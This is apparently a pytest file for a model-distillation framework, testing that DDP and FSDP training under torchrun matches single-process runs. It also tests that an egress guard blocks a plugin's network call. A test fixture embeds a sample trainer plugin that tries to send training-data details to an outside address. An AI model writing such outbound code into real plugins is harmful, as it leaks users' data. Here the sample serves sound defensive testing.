"""The training job under ``torchrun --nproc_per_node 2`` against the same job in one process.

Real components, small sizes: a tiny random BERT teacher, logit KD into a one-layer student built from a
config with dropout off, 240 toy intent requests, gloo on this host's CPUs.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from dataclasses import replace

import pytest
import yaml

from stillroom.components import Context
from stillroom.run.portable import ComponentRef
from stillroom.run.training import StudentJob
from tests import tinymodels as tm
from tests.distributions import pip_install, plugin_project
from tests.machine import scaled_timeout
from tests.people import adopt_policy

# Dropout off: each rank would draw its own masks, so only float summation order and padding width would
# be left to differ; with dropout on (the Ray test's spec) the tolerance is wider and says why.
STUDENT = {"init": "config", "epochs": 2, "batch_size": 15, "lr": 3e-3, "temperature": 2.0,
           "config": {"num_hidden_layers": 1, "hidden_dropout_prob": 0.0, "attention_probs_dropout_prob": 0.0}}


def job_and_context(root, workspace):
    from stillroom.labels import label_outputs
    from stillroom.plugins.teachers.hf import HFTeacher
    from stillroom.plugins.trainers.kd import LogitKDTrainer

    records: list[tuple[str, dict]] = []
    ctx = Context(workspace=workspace.root, artifacts=workspace.artifacts, progress=False, device="cpu",
                  record=lambda kind, payload: records.append((kind, dict(payload))))
    teacher = HFTeacher({"path": str(tm.classifier_dir(root / "teacher"))}, ctx)
    data = tm.toy_dataset(n_train=240, n_val=45)
    outputs = {split: label_outputs(teacher, getattr(data, split).texts, workspace.artifacts).outputs
               for split in ("train", "validation")}
    trainer = LogitKDTrainer({}, ctx)
    job = StudentJob(ComponentRef("trainer", trainer.name, {}, live=trainer),
                     ComponentRef("teacher", teacher.name, teacher.options, live=teacher),
                     STUDENT, data, outputs, seed=0, device="cpu")
    return job, ctx, records


def free_port() -> int:
    with socket.socket() as s:  # port 0 makes torchrun's workers wait on a store they never find
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def epochs(records) -> list[dict]:
    return [payload for kind, payload in records if kind == "train.epoch"]


def torchrun(job_dir, out, module="stillroom.run.torchrun", **env) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "torch.distributed.run", "--nproc_per_node", "2",
                           "--master_addr", "127.0.0.1", "--master_port", str(free_port()),
                           "-m", module, str(job_dir), str(out)],
                          capture_output=True, text=True, timeout=scaled_timeout(300), env={**os.environ, **env})


def test_the_training_job_under_torchrun_on_two_ranks_matches_one_process(workspace, tmp_path):
    from stillroom.run.executors.worker import EVIDENCE
    from stillroom.run.torchrun import write_job

    job, ctx, records = job_and_context(tmp_path, workspace)
    alone = job(ctx, tmp_path / "alone")
    write_job(job, tmp_path / "job", policy=workspace.policy().model_dump(mode="json"), workspace=workspace.root)
    # the entry point, then a check that each rank's gloo threads ended with its process group
    ran = torchrun(tmp_path / "job", tmp_path / "ddp", module="tests.torchrun_threads")
    assert ran.returncode == 0, ran.stderr[-3000:]
    evidence = json.loads((tmp_path / "ddp" / EVIDENCE).read_text())
    assert len(evidence["ranks"]) == 2 and all(rank["blocked"] == [] for rank in evidence["ranks"])
    assert evidence["facts"]["files"] == alone["files"] and evidence["facts"]["parameters"] == alone["parameters"]
    one, two = epochs(records), epochs(evidence["records"])
    assert [e["epoch"] for e in two] == [1, 2] and [e["steps"] for e in two] == [e["steps"] for e in one]
    # Same batches, each rank's loss weighted by its share, DDP's averaged gradient: the same optimizer steps
    # up to float summation order and per-rank padding width: measured 6e-8 relative here, far below what one
    # step of lr 3e-3 moves the loss.
    for a, b in zip(one, two, strict=True):
        assert b["loss"] == pytest.approx(a["loss"], rel=1e-5), (a, b)
        assert b["val_score"] == pytest.approx(a["val_score"], abs=1 / 45 + 1e-9), (a, b)  # one example at most
    assert one[-1]["loss"] < one[0]["loss"]  # it learnt something: the comparison is not of two no-ops


def test_fsdp_under_torchrun_shards_the_student_and_trains_as_one_process_does(workspace, tmp_path):
    """``student.parallel: fsdp``, with gradient accumulation and mid-epoch checkpoints: each rank holds a shard
    of every weight, the optimizer takes the steps one process takes, and the checkpoint is whole, so a run
    stopped mid-epoch resumes to the same student; the ledger says how it trained."""
    import torch
    from safetensors.torch import load_file

    from stillroom.plugins.trainers.checkpoints import load_state
    from stillroom.run.executors.worker import EVIDENCE
    from stillroom.run.torchrun import write_job

    job, ctx, records = job_and_context(tmp_path, workspace)
    spec = {**STUDENT, "grad_accum": 2, "checkpoint_every": 3}
    alone = replace(job, student_spec=spec)(ctx, tmp_path / "alone")
    policy = workspace.policy().model_dump(mode="json")
    for name in ("fsdp", "crash"):
        write_job(replace(job, student_spec={**spec, "parallel": "fsdp", "checkpoint_dir": str(tmp_path / f"{name}-state")}),
                  tmp_path / f"{name}-job", policy=policy, workspace=workspace.root)
    ran = torchrun(tmp_path / "fsdp-job", tmp_path / "fsdp", module="tests.torchrun_shards")
    assert ran.returncode == 0, ran.stderr[-3000:]
    shards = [json.loads((tmp_path / f"shards-{rank}.json").read_text()) for rank in (0, 1)]
    assert all(s["plain"] == [] for s in shards)  # every parameter a DTensor: none replicated whole
    assert shards[0]["whole"] == shards[1]["whole"] == shards[0]["local"] + shards[1]["local"]
    assert all(0 < s["local"] < s["whole"] for s in shards)
    evidence = json.loads((tmp_path / "fsdp" / EVIDENCE).read_text())
    one, two = epochs(records), epochs(evidence["records"])
    assert [e["steps"] for e in two] == [e["steps"] for e in one] == [8, 16]  # 240 / 15 = 16 batches, 2 to a step
    for a, b in zip(one, two, strict=True):  # the reduce-scatter averages as DDP's all-reduce does
        assert b["loss"] == pytest.approx(a["loss"], rel=1e-5), (a, b)
        assert b["val_score"] == pytest.approx(a["val_score"], abs=1 / 45 + 1e-9), (a, b)
    assert one[-1]["loss"] < one[0]["loss"]
    # the student rank 0 saved is the one a single process trains, weight for weight
    ours, theirs = load_file(tmp_path / "alone" / "model.safetensors"), load_file(tmp_path / "fsdp" / "model.safetensors")
    assert ours.keys() == theirs.keys() and evidence["facts"]["parameters"] == alone["parameters"]
    for name, weight in ours.items():
        assert torch.allclose(theirs[name], weight, rtol=1e-4, atol=1e-6), name
    assert [(p["ranks"], p["parallel"]) for kind, p in evidence["records"] if kind == "train.kept"] == [(2, "fsdp")]
    # rank 0 wrote the whole AdamW state, gathered from both shards, for every parameter
    state = load_state(next((tmp_path / "fsdp-state").iterdir()))
    moments = {name.removeprefix("net."): value["exp_avg"].shape for name, value in state["optimizer"]["state"].items()}
    assert moments == {name: value.shape for name, value in state["model"].items() if name in moments}
    assert set(moments) == {name for name, _ in alone_parameters(tmp_path / "alone")}
    # stopped after step 3's mid-epoch checkpoint, then the same job again: it resumes there, each rank loading
    # its shard of the saved optimizer state, and ends where the uninterrupted run ended
    stopped = torchrun(tmp_path / "crash-job", tmp_path / "crash", module="tests.torchrun_shards", CRASH_AFTER_STEP="3")
    assert stopped.returncode != 0 and not (tmp_path / "crash" / EVIDENCE).exists()
    again = torchrun(tmp_path / "crash-job", tmp_path / "crash", module="tests.torchrun_shards")
    assert again.returncode == 0, again.stderr[-3000:]
    resumed = json.loads((tmp_path / "crash" / EVIDENCE).read_text())
    assert [p["step"] for kind, p in resumed["records"] if kind == "train.resumed"] == [3]
    # epoch 1's mean loss there covers only the batches after the resume; epoch 2 is whole in both
    assert [e["epoch"] for e in epochs(resumed["records"])] == [1, 2]
    assert epochs(resumed["records"])[1]["loss"] == pytest.approx(two[1]["loss"], rel=1e-5)
    final = load_file(tmp_path / "crash" / "model.safetensors")
    for name, weight in theirs.items():
        assert torch.allclose(final[name], weight, rtol=1e-5, atol=1e-7), name


def alone_parameters(directory):
    """The trainable parameters of the student saved in ``directory``, by name, as the loop's net names them."""
    from stillroom.plugins.trainers.student import load_student

    return load_student(directory, device=__import__("torch").device("cpu")).net.named_parameters()


def test_fsdp_is_refused_where_there_is_no_process_group_to_shard_over(workspace, tmp_path):
    from stillroom.errors import ConfigError

    job, ctx, _ = job_and_context(tmp_path, workspace)
    with pytest.raises(ConfigError, match="student.parallel: fsdp shards the student over a process group"):
        replace(job, student_spec={**STUDENT, "parallel": "fsdp"})(ctx, tmp_path / "alone")
    assert not (tmp_path / "alone").exists()


def test_fsdp_on_the_local_executor_is_refused_at_preflight_before_any_data_moves(workspace, tmp_path):
    from stillroom.config import parse_spec
    from stillroom.errors import ConfigError
    from stillroom.run import run_pipeline

    texts, labels = tm.toy_split(60, 3)
    data = tmp_path / "requests.jsonl"
    data.write_text("".join(json.dumps({"text": t, "label": list(tm.INTENTS)[y]}) + "\n" for t, y in zip(texts, labels)))
    spec = parse_spec({"name": "intents", "source": {"type": "jsonl", "path": str(data), "classification": "public"},
                       "teacher": {"type": "hf", "path": str(tm.classifier_dir(tmp_path / "teacher"))},
                       "data": {"label_field": "label"}, "student": {"layers": 1, "parallel": "fsdp"}})
    with pytest.raises(ConfigError, match="student.parallel: fsdp shards the student over a process group"):
        run_pipeline(workspace, spec, initiator="op", progress=False)
    kinds = [e.kind for e in workspace.ledger().entries(limit=1000)]
    assert kinds[:3] == ["run.end", "stage.preflight", "run.start"]  # newest first: refused at preflight


def test_torchrun_entry_point_refuses_a_directory_that_is_not_a_job(tmp_path):
    ran = subprocess.run([sys.executable, "-m", "stillroom.run.torchrun", str(tmp_path), str(tmp_path / "out")],
                         capture_output=True, text=True)
    assert ran.returncode == 2
    assert ran.stderr.strip() == (f"error: {tmp_path} is not a training job: it needs job.json, dataset.json and "
                                  "teacher_outputs.npz (write_job)")
    assert not (tmp_path / "out").exists()


# An address no test host answers on (TEST-NET-3, RFC 5737) and outside every egress allowlist: were the guard
# not armed, the connect would time out or find no route, and the outcome would name that error instead.
PHONE_HOME = '''
import socket

from stillroom import hookimpl
from stillroom.plugins.trainers.kd import LogitKDTrainer


class PhoningTrainer(LogitKDTrainer):
    """Logit KD that first tries to send the size of its training split home, and records how that went."""

    name = "phoning-kd"

    def train(self, student_spec, data, teacher_outputs, ctx):
        with socket.socket() as home:
            home.settimeout(2)
            try:
                home.connect(("203.0.113.7", 443))
                home.sendall(b"%d" % len(data.train.texts))
                outcome = "sent"
            except OSError as exc:
                outcome = type(exc).__name__
        ctx.record("phoning.outcome", {"outcome": outcome})
        return super().train(student_spec, data, teacher_outputs, ctx)


@hookimpl
def register_trainers(register):
    register(PhoningTrainer)
'''


@pytest.fixture
def phoning_trainer(tmp_path):
    """A third-party trainer distribution, pip-installed into a private directory the ranks import from."""
    return pip_install(plugin_project(tmp_path / "phoning", "stillroom_phoning_trainer", PHONE_HOME), tmp_path / "site")


def test_a_plugins_egress_from_a_torchrun_rank_is_refused_and_carried_back_with_node_and_plugin(
        workspace, phoning_trainer, tmp_path):
    from stillroom.run.executors.worker import EVIDENCE, refusals
    from stillroom.run.torchrun import write_job

    (workspace.policy_dir / "plugins.yaml").write_text(
        yaml.safe_dump({"plugins": {"allow": [{"name": "stillroom-phoning-trainer", "version": "==0.1.0"}]}}))
    adopt_policy(workspace)
    job, _, _ = job_and_context(tmp_path, workspace)
    job = replace(job, trainer=ComponentRef("trainer", "phoning-kd", {}))
    write_job(job, tmp_path / "job", policy=workspace.policy().model_dump(mode="json"), workspace=workspace.root)
    ran = torchrun(tmp_path / "job", tmp_path / "ddp", PYTHONPATH=str(phoning_trainer))
    assert ran.returncode == 0, ran.stderr[-3000:]
    evidence = json.loads((tmp_path / "ddp" / EVIDENCE).read_text())
    # refused on both ranks, by the guard, before the connect: rank 0's outcome is in its records; rank 1's
    # attempt in what it handed rank 0
    assert [p for kind, p in evidence["records"] if kind == "phoning.outcome"] == [{"outcome": "EgressBlocked"}]
    blocked = refusals(evidence, "train")
    assert len(blocked) == 2  # one per rank
    assert {(b["target"], b["event"], b["stage"], b["node"], b["plugin"]) for b in blocked} == \
        {("203.0.113.7:443", "socket.connect", "train", socket.gethostname(), "stillroom_phoning_trainer")}
    assert evidence["facts"]["files"]  # the refusal did not stop the job: the student was trained and saved


def test_a_written_job_carries_the_runs_scrubber_and_one_without_carries_none(tmp_path):
    """Text the teacher writes during training is scrubbed as the run scrubs (``Context.scrub``): a job sent to
    torchrun names the run's scrubber, or none where the run has none, and nothing builds it on the way."""
    from stillroom.components import Dataset, Split
    from stillroom.run.torchrun import read_job, write_job

    data = Dataset(Split(["my pin is blocked"]), Split([]), Split([]))
    scrubber = ComponentRef("scrubber", "presidio", {"fields": ["text"], "workers": 1})
    for sent in (scrubber, None):
        job = StudentJob(ComponentRef("trainer", "token-kd", {}), ComponentRef("teacher", "hf", {"path": "t"}),
                         {"method": "sequence"}, data, {}, seed=0, device="cpu", scrubber=sent)
        write_job(job, tmp_path / str(sent is None), policy={}, workspace=tmp_path)
        read, _ = read_job(tmp_path / str(sent is None))
        assert read.scrubber == sent and (read.scrubber is None or read.scrubber.live is None)
